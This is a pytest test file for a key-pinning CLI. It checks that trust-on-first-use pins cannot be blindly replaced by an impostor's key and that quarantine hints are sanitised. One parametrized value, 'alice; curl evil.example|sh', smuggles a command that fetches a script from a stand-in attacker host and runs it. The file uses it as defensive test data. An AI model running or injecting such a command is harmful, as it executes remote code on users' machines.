"""``sealpack trust accept NAME [--expect FINGERPRINT]``: a blind accept cannot replace a pin."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sealpack import errors
from sealpack.cli import exchange as exchange_cli
from sealpack.cli import trust as trust_cli
from sealpack.exchange import Peer
from sealpack.exchange.contacts import published_bundle
from sealpack.keys import Identity, KeyBundle, KeyStore, fingerprint_matches
from tests.exchange.test_cli_exchange import fast_keystores, home, run

__all__ = ["fast_keystores", "home"]  # fixtures used here


def _bob_pins_alice(tmp_path: Path) -> tuple[str, Path]:
    site = str(tmp_path / "site")
    run(["peer", "init", "alice", "--root", site])
    run(["peer", "init", "bob", "--root", site])
    run(["trust", "accept", "alice", "--root", site, "--as", "bob"])
    return site, tmp_path / "home" / ".sealpack" / "keystores" / "bob"


def _pinned_alice(bob_store: Path) -> bytes | None:
    with KeyStore.open(bob_store, passphrase=b"correct horse") as store:
        return store.trust_store.pinned_key("alice")


def _impostor_publishes_alice(site: str, tmp_path: Path) -> str:
    """Someone who can write the synced folder republishes 'alice' with their own key."""
    impostor = Identity.generate("alice", one_time_prekeys=0)
    Peer("alice", site, keystore=impostor).close()
    return impostor.fingerprint()


@pytest.mark.usefixtures("home")
def test_a_blind_accept_cannot_replace_a_pin_with_the_impostors_bundle(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Attack: after bob's receive reports 'identity-changed', bob runs the suggested
    ``trust accept alice``. Before, that pinned whatever the folder published: the
    impostor. Now replacing a pin needs --expect with the new fingerprint."""
    site, bob_store = _bob_pins_alice(tmp_path)
    honest = _pinned_alice(bob_store)
    forged = _impostor_publishes_alice(site, tmp_path)
    capsys.readouterr()
    with pytest.raises(errors.IdentityChangedError, match="--expect") as refused:
        run(["trust", "accept", "alice", "--root", site, "--as", "bob"])
    assert forged in str(refused.value)  # shown, to be compared out of band
    assert _pinned_alice(bob_store) == honest
    assert "trusted" not in capsys.readouterr().out


@pytest.mark.usefixtures("home")
def test_accept_with_another_fingerprint_pins_nothing(tmp_path: Path) -> None:
    site, bob_store = _bob_pins_alice(tmp_path)
    honest = _pinned_alice(bob_store)
    _impostor_publishes_alice(site, tmp_path)
    wrong = Identity.generate("x", one_time_prekeys=0).fingerprint()
    with pytest.raises(errors.IdentityChangedError, match="nothing was pinned"):
        run(["trust", "accept", "alice", "--root", site, "--as", "bob", "--expect", wrong])
    assert _pinned_alice(bob_store) == honest


@pytest.mark.usefixtures("home")
def test_accept_with_the_compared_fingerprint_replaces_the_pin(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A real key change (alice moved machines): the fingerprint she read out on a call."""
    site, bob_store = _bob_pins_alice(tmp_path)
    new = _impostor_publishes_alice(site, tmp_path)
    capsys.readouterr()
    typed = new.replace(" ", "")  # typed as one run of digits
    assert run(["trust", "accept", "alice", "--root", site, "--as", "bob", "--expect", typed]) == 0
    out = capsys.readouterr().out
    assert "was " in out and f"trusted alice  {new}" in out
    pinned = _pinned_alice(bob_store)
    assert pinned is not None and fingerprint_matches(pinned, new)


@pytest.mark.usefixtures("home")
def test_a_first_pin_without_expect_is_trust_on_first_use_with_a_notice(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    site = str(tmp_path / "site")
    run(["peer", "init", "alice", "--root", site])
    run(["peer", "init", "bob", "--root", site])
    capsys.readouterr()
    assert run(["trust", "accept", "alice", "--root", site, "--as", "bob"]) == 0
    captured = capsys.readouterr()
    assert "trusted alice" in captured.out
    assert "compare this fingerprint with alice out of band" in captured.err


@pytest.mark.usefixtures("home")
def test_a_pin_made_meanwhile_by_another_process_is_never_replaced_blindly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Race: `trust accept alice` (no --expect) saw no pin, then pinned what the folder
    published (mallory's bundle). bob's `receive --watch` had pinned the real alice in
    between, and that pin was silently replaced. Now the CLI pins with the store's
    atomic first-use check: a pin made meanwhile is confirmed or refused, never replaced."""
    site = str(tmp_path / "site")
    run(["peer", "init", "alice", "--root", site])
    run(["peer", "init", "bob", "--root", site])
    bob_store = tmp_path / "home" / ".sealpack" / "keystores" / "bob"
    real = published_bundle(site, "alice")
    assert real is not None
    _impostor_publishes_alice(site, tmp_path)
    fetch = trust_cli.published_bundle

    def fetch_while_the_daemon_pins(root: str, name: str) -> KeyBundle | None:
        with KeyStore.open(bob_store, passphrase=b"correct horse") as daemon:
            daemon.trust_store.check(real)  # bob's other process, trust on first use
        return fetch(root, name)

    monkeypatch.setattr(trust_cli, "published_bundle", fetch_while_the_daemon_pins)
    with pytest.raises(errors.IdentityChangedError, match="--expect"):
        run(["trust", "accept", "alice", "--root", site, "--as", "bob"])
    assert _pinned_alice(bob_store) == real.identity_key


@pytest.mark.parametrize(
    ("hint", "shown"), [("alice", True), ("alice; curl evil.example|sh", False), ("", False)]
)
def test_the_quarantine_hint_shows_only_a_well_formed_name_as_a_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], hint: str, shown: bool
) -> None:
    """A reason file in bob's quarantine is written by whoever writes the folder: its
    sender hint ``alice; curl evil.example|sh`` was printed inside the command to copy."""
    site = tmp_path / "site"
    bob = Peer("bob", str(site), keystore=Identity.generate("bob", one_time_prekeys=0))
    quarantine = site / "bob" / "quarantine"
    quarantine.mkdir(exist_ok=True)
    message_id = "1" * 32
    (quarantine / f"{message_id}.sealed").write_bytes(b"x")
    record = {
        "message_id": message_id,
        "reason": "untrusted",
        "detail": "planted",
        "sender_hint": hint,
        "quarantined_at": 0,
    }
    (quarantine / f"{message_id}.reason.json").write_text(json.dumps(record))
    assert exchange_cli._report_quarantine(bob, set()) == 1
    err = capsys.readouterr().err
    assert f"quarantined {message_id}: untrusted" in err
    assert ("sealpack trust accept alice --expect" in err) is shown
    assert "curl" not in err
